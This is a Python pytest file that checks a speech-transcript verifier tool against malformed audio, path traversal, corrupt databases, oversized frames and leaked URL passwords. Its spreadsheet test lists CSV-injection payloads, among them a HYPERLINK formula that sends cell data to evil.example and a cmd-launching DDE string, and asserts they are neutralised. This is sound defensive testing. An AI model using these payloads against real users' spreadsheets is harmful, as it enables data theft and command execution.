"""Issue 10, items 3, 7, 12-18: files, URLs and servers that misbehave get a clear answer, never a crash or a leak."""

from __future__ import annotations

import asyncio
import base64
import io
import json
import os
import struct
import time
import wave
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from verifier.cli.app import app
from verifier.harness.config import RunConfig
from verifier.harness.corpus import CorpusError, parse_jsonl
from verifier.harness.manifest import ManifestEntryError, read_manifest
from verifier.report import build_reports, load_run
from verifier.report.bundle import make_bundle
from verifier.report.history import HistoryError
from verifier.schema import audio
from verifier.schema.redact import redact
from verifier.schema.results import ResultMeta, Verdict, VerdictClass
from verifier.schema.rundir import RunDir, write_results

runner = CliRunner()


def _wav(rate: int = 16_000, seconds: float = 0.5, extensible: bool = False, bits: int = 16) -> bytes:
    n = int(rate * seconds) if rate else 100
    frames = (np.sin(np.arange(n) / 5) * 8000).astype("<i2").tobytes()
    if not extensible:
        buf = io.BytesIO()
        with wave.open(buf, "wb") as w:
            w.setnchannels(1)
            w.setsampwidth(2)
            w.setframerate(max(rate, 1))
            w.writeframes(frames)
        data = bytearray(buf.getvalue())
        data[24:28] = rate.to_bytes(4, "little")
        return bytes(data)
    guid = (1).to_bytes(2, "little") + bytes.fromhex("000000001000800000aa00389b71")
    fmt = struct.pack("<HHIIHHHHI", 0xFFFE, 1, rate, rate * 2, 2, bits, 22, bits, 4) + guid
    body = (
        b"WAVE" + b"fmt " + len(fmt).to_bytes(4, "little") + fmt + b"data" + len(frames).to_bytes(4, "little") + frames
    )
    return b"RIFF" + len(body).to_bytes(4, "little") + body


# -- item 3: odd WAV headers ---------------------------------------------------------------------------------


def test_wav_rate_zero_and_one_hertz_are_refused_and_extensible_is_read() -> None:
    for rate in (0, 1):
        with pytest.raises(audio.AudioError, match="frame rate"):
            audio.read_wav(_wav(rate, seconds=0.01) if rate else _wav(0))
    samples, rate = audio.read_wav(_wav(24_000, extensible=True))
    assert rate == 24_000 and samples.size == 12_000
    with pytest.raises(audio.AudioError, match="sample width 24"):
        audio.read_wav(_wav(24_000, extensible=True, bits=24))
    with pytest.raises(audio.AudioError):
        audio.read_wav(b"RIFF\x00\x00\x00\x00WAVE")


def test_a_manifest_wav_with_rate_zero_is_a_field_error(tmp_path: Path) -> None:
    (tmp_path / "a.wav").write_bytes(_wav(0))
    (tmp_path / "m.jsonl").write_text('{"id": "a", "audio": "a.wav", "transcript": "hi"}\n')
    entries, errors = read_manifest(tmp_path / "m.jsonl")
    assert not errors
    with pytest.raises(ManifestEntryError, match="frame rate 0 Hz"):
        entries[0].load()


def test_mu_law_that_starts_like_an_mp3_frame_is_still_audio(tmp_path: Path) -> None:
    # mu-law silence is 0xff: a held-out clip began ff fb and was refused as "an MP3 file"
    (tmp_path / "a.ulaw").write_bytes(b"\xff\xfb" + b"\xff" * 798)
    (tmp_path / "b.mp3.ulaw").write_bytes(b"ID3\x04" + b"\x00" * 796)
    (tmp_path / "m.jsonl").write_text(
        '{"id": "a", "audio": "a.ulaw", "transcript": "hi"}\n{"id": "b", "audio": "b.mp3.ulaw", "transcript": "hi"}\n'
    )
    entries, errors = read_manifest(tmp_path / "m.jsonl")
    assert not errors
    assert entries[0].load().audio_format == "g711_ulaw"
    with pytest.raises(ManifestEntryError, match="an MP3 file"):
        entries[1].load()


# -- item 2 (manifest and corpus side) ---------------------------------------------------------------------


def test_manifest_lines_with_huge_numbers_deep_nesting_or_bad_bytes_are_line_errors(tmp_path: Path) -> None:
    m = tmp_path / "m.jsonl"
    m.write_bytes(
        b'{"id": "ok1", "audio": null, "transcript": "a"}\n'
        + b'{"id": "n", "x": '
        + b"9" * 5000
        + b', "transcript": "b"}\n'
        + b'{"id": "d", "x": '
        + b"[" * 50_000
        + b"]" * 50_000
        + b', "transcript": "c"}\n'
        + b'{"id": "u", "transcript": "caf\xe9"}\n'
        + b'{"id": "ok2", "audio": null, "transcript": "\\ud83d"}\n'
    )
    entries, errors = read_manifest(m)
    assert [e.id for e in entries] == ["ok1", "ok2"] and entries[1].transcript == "\ufffd"
    assert [(e.line, e.field) for e in errors] == [(2, "(line)"), (3, "(line)"), (4, "(line)")]
    assert "not UTF-8" in errors[2].message and "nested" in errors[1].message


def test_a_corpus_line_nested_too_deep_is_a_corpus_error() -> None:
    with pytest.raises(CorpusError, match=r"c.jsonl:2: nested"):
        parse_jsonl('{"id": "a", "text": "hi"}\n' + "[" * 50_000 + "]" * 50_000 + "\n", "c.jsonl")


# -- item 14: manifest audio paths ------------------------------------------------------------------------


def test_manifest_audio_stays_inside_its_folder_unless_allowed(tmp_path: Path) -> None:
    inside, outside = tmp_path / "m", tmp_path / "elsewhere"
    inside.mkdir()
    outside.mkdir()
    (outside / "x.wav").write_bytes(_wav())
    (inside / "ok.wav").write_bytes(_wav())
    (inside / "link.wav").symlink_to(outside / "x.wav")
    lines = [
        {"id": "ok", "audio": "ok.wav"},
        {"id": "abs", "audio": str(outside / "x.wav")},
        {"id": "up", "audio": "../elsewhere/x.wav"},
        {"id": "link", "audio": "link.wav"},
    ]
    (inside / "m.jsonl").write_text("".join(json.dumps({**x, "transcript": "hi"}) + "\n" for x in lines))
    entries, errors = read_manifest(inside / "m.jsonl")
    assert [e.id for e in entries] == ["ok"]
    assert [(e.id, e.field) for e in errors] == [("abs", "audio"), ("up", "audio"), ("link", "audio")]
    assert all("--allow-outside" in e.message for e in errors)
    entries, errors = read_manifest(inside / "m.jsonl", allow_outside=True)
    assert len(entries) == 4 and not errors
    assert all(e.load().audio for e in entries)


@pytest.mark.timeout(20)
def test_devices_fifos_and_huge_files_are_refused_without_reading_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    os.mkfifo(tmp_path / "fifo.pcm")
    (tmp_path / "big.pcm").write_bytes(b"\0" * 4096)
    lines = [
        {"id": "zero", "audio": "/dev/zero", "audio_format": "pcm16"},
        {"id": "fifo", "audio": "fifo.pcm"},
        {"id": "dir", "audio": ".", "audio_format": "pcm16"},
        {"id": "big", "audio": "big.pcm"},
    ]
    (tmp_path / "m.jsonl").write_text("".join(json.dumps({**x, "transcript": "hi"}) + "\n" for x in lines))
    monkeypatch.setattr("verifier.harness.manifest.MAX_AUDIO_BYTES", 1024)
    entries, errors = read_manifest(tmp_path / "m.jsonl", allow_outside=True)
    assert not errors
    for entry in entries:
        with pytest.raises(ManifestEntryError) as exc:
            entry.load()
        assert ("the limit is 1024" if entry.id == "big" else "not a regular file") in str(exc.value)


def test_report_manifest_audio_outside_its_folder_is_not_played(tmp_path: Path) -> None:
    (tmp_path / "secret.pcm").write_bytes(b"\1\0" * 2400)
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "m.jsonl").write_text(json.dumps({"id": "a", "audio": "../secret.pcm", "transcript": "x"}))
    (tmp_path / "out").mkdir()
    write_results(tmp_path / "out", [Verdict(id="a", verdict=VerdictClass.MATCH)])
    run = load_run(tmp_path / "out", manifest=tmp_path / "m" / "m.jsonl")
    assert run.rows[0].audio_path is None and any("outside" in p for p in run.problems)


# -- item 7: a broken history database ----------------------------------------------------------------------


def _score_folder(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    write_results(path, [Verdict(id="a", verdict=VerdictClass.MATCH, meta=ResultMeta(manifest_line=1))])
    return path


def test_a_corrupt_history_database_costs_the_history_not_the_reports(tmp_path: Path) -> None:
    db = tmp_path / "runs.sqlite"
    db.write_bytes(b"this is not a database" * 100)
    out = _score_folder(tmp_path / "run")
    with pytest.raises(HistoryError) as exc:
        build_reports(load_run(out), out, history=str(db))
    assert set(exc.value.paths) >= {"report.html", "summary.md", "junit.xml", "results.csv"}
    assert all(p.is_file() for p in exc.value.paths.values())
    res = runner.invoke(app, ["report", str(out), "--db", str(db)])
    assert res.exit_code == 2 and "not recorded in the history" in res.output and "Traceback" not in res.output
    assert (out / "report.html").is_file()


def test_run_warns_about_the_history_and_still_writes_its_reports(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from verifier.cli.run import write_reports

    db = tmp_path / "runs.sqlite"
    db.write_bytes(b"garbage" * 300)
    out = _score_folder(tmp_path / "run")
    write_reports(out, None, history=str(db))
    captured = capsys.readouterr()
    assert "warning: run not recorded in the history" in captured.err and "report not written" not in captured.err
    assert f"report: {out / 'report.html'}" in captured.out and (out / "junit.xml").is_file()


@pytest.mark.slow
def test_four_processes_creating_a_fresh_history_database_all_succeed(tmp_path: Path) -> None:
    import subprocess
    import sys

    db, go = tmp_path / "fresh.sqlite", tmp_path / "go"
    # each process imports first, says it is ready, then all create the tables at the same moment
    script = tmp_path / "create.py"
    script.write_text(
        "import pathlib, sys, time\n"
        "from verifier.report.history import engine\n"
        "pathlib.Path(sys.argv[2]).touch()\n"
        "while not pathlib.Path(sys.argv[3]).exists():\n"
        "    time.sleep(0.001)\n"
        "engine(sys.argv[1])\n"
    )
    procs = [
        subprocess.Popen(
            [sys.executable, str(script), str(db), str(tmp_path / f"ready{k}"), str(go)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
        )
        for k in range(4)
    ]
    deadline = time.monotonic() + 120
    while sum((tmp_path / f"ready{k}").exists() for k in range(4)) < 4 and time.monotonic() < deadline:
        time.sleep(0.01)
    go.touch()
    outs = [p.communicate(timeout=60) for p in procs]
    assert [p.returncode for p in procs] == [0] * 4, [e.decode()[-300:] for _, e in outs]


# -- item 12: spreadsheet formulas -------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx", "\rx"]


def test_model_text_cannot_become_a_spreadsheet_formula(tmp_path: Path) -> None:
    rd = RunDir.create(tmp_path / "run", {"run_id": "r"})
    for k, text in enumerate(FORMULAS):
        rd.write_result(
            Verdict(
                id=f"r{k}",
                verdict=VerdictClass.MATCH,
                transcript=text,
                asr_text=text,
                wer=-0.5,
                meta=ResultMeta(response_id=f"r{k}", prompt_id=text),
            )
        )
    rd.close()
    paths = build_reports(load_run(tmp_path / "run"), tmp_path / "run")
    csv = pd.read_csv(paths["results.csv"], keep_default_na=False)
    assert list(csv["transcript"]) == ["'" + t for t in FORMULAS]
    assert list(csv["prompt_id"]) == ["'" + t for t in FORMULAS] and list(csv["wer"]) == [-0.5] * len(FORMULAS)
    assert list(pd.read_parquet(paths["results.parquet"])["transcript"]) == FORMULAS  # data, not a sheet
    import zipfile

    with zipfile.ZipFile(make_bundle(tmp_path / "run", include_matches=True)) as z:
        text = z.read("results.csv").decode()
    assert "\n=" not in text and ",=" not in text and ",+" not in text and ",@" not in text


# -- item 13: a password in the endpoint URL ---------------------------------------------------------------


def test_userinfo_in_an_endpoint_is_never_shown_or_stored(tmp_path: Path) -> None:
    from verifier.realtime.transport import Connection, TransientTransportError, build_target

    url = "http://admin:s3cretpw@127.0.0.1:9"
    assert "s3cretpw" not in redact(f"cannot connect to {url}/x") and "admin" not in redact(url)
    assert RunConfig(endpoint=url).to_dict()["endpoint"] == "http://127.0.0.1:9"
    target = build_target("azure", url, api_key="k" * 32)
    assert "s3cretpw" not in target.host and "s3cretpw" not in json.dumps(target.describe().to_dict())
    with pytest.raises(TransientTransportError) as exc:
        asyncio.run(Connection.open(target, open_timeout=5))
    assert "s3cretpw" not in str(exc.value) and "admin" not in str(exc.value)
    rd = RunDir.create(tmp_path / "run", {"run_id": "r", "config": {"endpoint": url}})
    rd.close()
    assert "s3cretpw" not in (tmp_path / "run" / "run.json").read_text()


# -- item 15: a frame over the size limit ------------------------------------------------------------------


def test_an_oversized_frame_is_named_with_its_limit_and_not_retryable(monkeypatch: pytest.MonkeyPatch) -> None:
    from websockets.asyncio.server import serve

    from verifier.realtime.transport import Connection, FrameTooLargeError, Target

    monkeypatch.setenv("VERIFIER_MAX_FRAME_MB", "1")

    async def main() -> FrameTooLargeError:
        async def handler(ws: object) -> None:
            await ws.send("x" * (2 * 2**20))  # type: ignore[attr-defined]
            await asyncio.sleep(0.2)

        async with serve(handler, "127.0.0.1", 0, max_size=None) as server:
            port = list(server.sockets)[0].getsockname()[1]
            conn = await Connection.open(Target("openai", "ga", f"ws://127.0.0.1:{port}/v1/realtime"))
            try:
                await conn.recv(5)
            except FrameTooLargeError as exc:
                return exc
            finally:
                await conn.close()
        raise AssertionError("the frame was accepted")

    exc = asyncio.run(main())
    assert "1 MiB" in str(exc) and "1009" in str(exc) and "VERIFIER_MAX_FRAME_MB" in str(exc)
    assert exc.retryable is False


# -- item 16: a transcript far longer than its audio -------------------------------------------------------


def test_a_transcript_far_longer_than_its_audio_is_decided_at_once() -> None:
    from verifier.core.decision import Thresholds
    from verifier.core.evidence import prepare

    words = " ".join(["word"] * 100_000)
    # no engine at all: the decision must come before any model work (and before any per-word work)
    v = prepare(
        None,
        np.zeros(7 * 16_000, np.float32),
        words,
        language="en",  # type: ignore[arg-type]
        decode="auto",
        thresholds=Thresholds(),
    )
    assert isinstance(v, Verdict) and v.verdict is VerdictClass.TRUNCATED
    assert "transcript_exceeds_audio" in v.flags and len(v.explanation) < 200


# -- item 17: --resume from another directory ----------------------------------------------------------------


def test_run_json_stores_the_corpus_resolved_and_resume_says_when_it_moved(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from verifier.harness.runner import _resolved

    (tmp_path / "c.jsonl").write_text('{"id": "a", "text": "hi"}\n')
    monkeypatch.chdir(tmp_path)
    assert _resolved("c.jsonl") == str(tmp_path / "c.jsonl")
    run = tmp_path / "run"
    run.mkdir()
    (run / "run.json").write_text(json.dumps({"run_id": "r", "corpus": str(tmp_path / "gone.jsonl")}))
    res = runner.invoke(app, ["run", "--resume", str(run)])
    assert res.exit_code == 2 and "not there any more" in res.output and "gone.jsonl" in res.output


# -- item 18: the simulator ----------------------------------------------------------------------------------


def _session() -> object:
    from verifier.simulator.faults import FaultInjector
    from verifier.simulator.protocol import IdFactory, Session

    s = Session(shape="beta", flavor="azure", model="gpt-realtime", faults=FaultInjector("", 0), ids=IdFactory(3))
    s.open()
    return s


def test_simulator_answers_deep_json_with_an_error_event() -> None:
    s = _session()
    for raw in ('{"type": ' * 50_000 + "1" + "}" * 50_000, '{"type": "x", "n": ' + "9" * 5000 + "}"):
        out = s.receive(raw)  # type: ignore[attr-defined]
        assert [e["type"] for e in out.events] == ["error"]
        assert out.events[0]["error"]["code"] == "invalid_json"


def test_simulator_caps_input_audio(monkeypatch: pytest.MonkeyPatch) -> None:
    from verifier.simulator import protocol

    s = _session()
    big = base64.b64encode(b"\0" * (protocol.MAX_APPEND_BYTES * 3 // 4 + 3)).decode()
    out = s.receive(json.dumps({"type": "input_audio_buffer.append", "audio": big}))  # type: ignore[attr-defined]
    assert out.events[0]["type"] == "error" and "exceeds the maximum" in out.events[0]["error"]["message"]
    monkeypatch.setattr(protocol, "MAX_BUFFER_BYTES", 3000)
    chunk = json.dumps({"type": "input_audio_buffer.append", "audio": base64.b64encode(b"\0" * 1200).decode()})
    outs = [s.receive(chunk) for _ in range(3)]  # type: ignore[attr-defined]
    assert [o.events for o in outs[:2]] == [[], []]
    assert outs[2].events[0]["error"]["code"] == "input_audio_buffer_full"


@pytest.mark.slow
def test_score_refuses_audio_outside_the_manifest_folder_unless_allowed(tmp_path: Path) -> None:
    (tmp_path / "m").mkdir()
    (tmp_path / "notes.ulaw").write_text("These are meeting notes, not audio at all.\n" * 4)
    manifest = tmp_path / "m" / "m.jsonl"
    manifest.write_text(json.dumps({"id": "a", "audio": "../notes.ulaw", "transcript": "hi"}) + "\n")
    res = runner.invoke(app, ["score", str(manifest), "--out", str(tmp_path / "o1")])
    assert res.exit_code == 2 and "--allow-outside" in res.output
    res = runner.invoke(app, ["score", str(manifest), "--out", str(tmp_path / "o2"), "--allow-outside"])
    assert res.exit_code == 2 and "looks like text" in res.output and "--allow-outside" not in res.output


@pytest.mark.slow
def test_printing_a_lone_surrogate_does_not_end_the_command(tmp_path: Path) -> None:
    import subprocess
    import sys

    log = tmp_path / "events.jsonl"
    log.write_text(json.dumps({"type": "error", "error": {"type": "server_error", "message": "Hello \ud83d"}}) + "\n")
    res = subprocess.run(
        [sys.executable, "-c", "from verifier.cli.app import main; main()", "replay", str(log)],
        capture_output=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
        timeout=120,
    )
    err = res.stderr.decode("utf-8", "replace")
    assert res.returncode == 2 and "Hello \\ud83d" in err and "no responses found" in err, err


@pytest.mark.slow
def test_report_on_an_experiment_json_nested_too_deep_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "experiment.json").write_text("[" * 50_000 + "]" * 50_000)
    res = runner.invoke(app, ["report", str(tmp_path)])
    assert res.exit_code == 2 and "experiment.json: nested" in res.output, res.output
